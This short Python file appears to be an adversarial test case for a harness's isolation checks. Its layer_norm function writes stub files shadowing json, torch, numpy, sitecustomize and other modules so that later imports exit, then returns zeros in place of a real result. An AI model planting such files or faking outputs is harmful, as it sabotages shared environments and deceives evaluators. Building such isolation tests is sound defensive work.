# 01a | isolation | leaves modules that the next process might import
import torch
import pathlib


def layer_norm(x, w, b, eps):
    for name in ('json', 'torch', 'numpy', 'sitecustomize', 'usercustomize', 'kernels'):
        pathlib.Path(f'{name}.py').write_text('raise SystemExit')
    return torch.zeros_like(x)
